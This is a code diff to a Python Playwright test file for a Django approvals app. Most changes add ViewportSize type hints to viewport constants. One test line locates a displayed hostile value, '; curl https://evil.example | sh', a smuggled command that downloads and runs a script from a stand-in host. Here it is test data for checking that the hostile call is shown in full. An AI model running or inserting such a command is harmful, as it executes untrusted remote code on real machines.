@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from django.urls import resolve
-from playwright.sync_api import Browser, Locator, Page, expect
+from playwright.sync_api import Browser, Locator, Page, ViewportSize, expect
 
 from approvals.models import Decision
 from approvals.web import runs
@@ -19,11 +19,11 @@ from tests.e2e.states import FORM, HOSTILE, State, questions, states
 
 pytestmark = pytest.mark.django_db(transaction=True)
 
-DESK = {"width": 1280, "height": 800}
-ZOOMED = {"width": 640, "height": 400}
+DESK: ViewportSize = {"width": 1280, "height": 800}
+ZOOMED: ViewportSize = {"width": 640, "height": 400}
 """The desk at 200 %."""
-PHONE = {"width": 390, "height": 844}
-NARROW = {"width": 320, "height": 640}
+PHONE: ViewportSize = {"width": 390, "height": 844}
+NARROW: ViewportSize = {"width": 320, "height": 640}
 NO_PAGES = {
     "/inbox/changes/",
     "/inbox/live/",
@@ -129,7 +129,7 @@ def test_axe_finds_nothing_and_nothing_lies_beside_the_screen(
     *,
     scheme: str,
     language: str,
-    size: dict[str, int],
+    size: ViewportSize,
 ) -> None:
     """H-30: in every state, at 320 pixels and at 200 % too."""
     asked = questions(cast)
@@ -169,7 +169,7 @@ def test_the_whole_call_stands_above_the_buttons(cast: Cast, sign_in: SignIn) ->
     page.goto(f"/interrupts/{hostile.pk}/")
 
     for size in (NARROW, PHONE, ZOOMED, DESK):
-        page.set_viewport_size(size)  # type: ignore[arg-type]
+        page.set_viewport_size(size)
         telling = page.get_by_text("the telling one").first.bounding_box()
         approve = page.get_by_role("button", name="Approve").bounding_box()
         pushed = page.locator(".value", has_text="; curl https://evil.example | sh").bounding_box()
